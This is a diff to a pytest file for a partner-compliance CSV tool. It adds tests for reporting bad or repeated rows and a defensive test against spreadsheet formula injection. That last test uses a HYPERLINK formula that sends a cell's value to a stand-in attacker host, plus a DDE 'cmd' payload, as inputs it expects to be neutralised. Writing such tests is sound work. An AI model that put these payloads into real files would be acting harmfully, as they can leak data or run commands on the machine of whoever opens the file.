@@ -350,5 +350,63 @@ def test_partner_center_invalid_and_porgate_valid_is_drift():
     assert row.drift == "Partner Center says invalid, porgate says valid"
 
 
-def test_bad_rows_render_as_line_and_reason():
-    assert BadRow(7, "why").as_record() == {"line": 7, "reason": "why"}
+def test_bad_rows_render_as_line_partner_id_and_reason():
+    assert BadRow(7, "why", "12ab").as_record() == {"line": 7, "partnerId": "12ab", "reason": "why"}
+
+
+REPEATS_AND_BAD = (
+    "PartnerId,ResellerName,IsCompliant,ErrorCodes\n"
+    "1000001,Good,True,\n"  # line 2
+    "12ab,Typo,True,\n"  # line 3: not a PLA id
+    "1000001,Again,True,\n"  # line 4: repeated
+    "1000002,Maybe,perhaps,\n"  # line 5: no boolean
+    "1000003,Short,True\n"  # line 6: a field missing
+)
+
+
+def test_the_csv_reports_every_bad_or_repeated_row_by_line_with_its_reason():
+    parsed = parse(REPEATS_AND_BAD)
+    rows = triage(parsed.rows, DIST, small_registry(), {})
+    table = list(csv.DictReader(io.StringIO(render_csv(rows, parsed.bad_rows))))
+    assert [(t["Line"], t["PartnerId"], t["Agreement"]) for t in table] == [
+        ("2", "1000001", "agree"),
+        ("3", "12ab", "bad"),
+        ("4", "1000001", "bad"),
+        ("5", "1000002", "bad"),
+        ("6", "1000003", "bad"),
+    ]
+    problems = [t["Problem"] for t in table]
+    assert problems[0] == ""
+    assert "not a PLA id" in problems[1]
+    assert "already on line 2" in problems[2]
+    assert "IsCompliant 'perhaps'" in problems[3]
+    assert "field(s) where the header has" in problems[4]
+    document = json.loads(render_json(parsed, rows))
+    assert [(b["line"], b["partnerId"]) for b in document["badRows"]] == [
+        (3, "12ab"),
+        (4, "1000001"),
+        (5, "1000002"),
+        (6, "1000003"),
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_of_the_csv_is_a_formula_a_spreadsheet_would_run(start):
+    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["PartnerId", "ResellerName", "ResellerTenantId", "IsCompliant", "ErrorCodes"])
+    writer.writerow(["1000001", name, f"{start}cmd|' /C calc'!A0", "True", ""])
+    writer.writerow([f"{start}1+1", "x", "y", "True", ""])  # a bad row's PartnerId as written
+    text = out.getvalue()
+    parsed = parse(text)
+    rows = triage(parsed.rows, DIST, small_registry(), {})
+    table = list(csv.DictReader(io.StringIO(render_csv(rows, parsed.bad_rows))))
+    cells = [v for t in table for v in t.values() if v]
+    assert cells and not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # Kept, shown as text (cells are trimmed on reading: a leading tab or CR goes then).
+    risky = ("=", "+", "-", "@")
+    shown = name.strip()
+    assert table[0]["ResellerName"] == ("'" + shown if shown.startswith(risky) else shown)
+    assert table[1]["Agreement"] == "bad"
+    assert table[1]["PartnerId"].startswith("'") is start.startswith(risky)
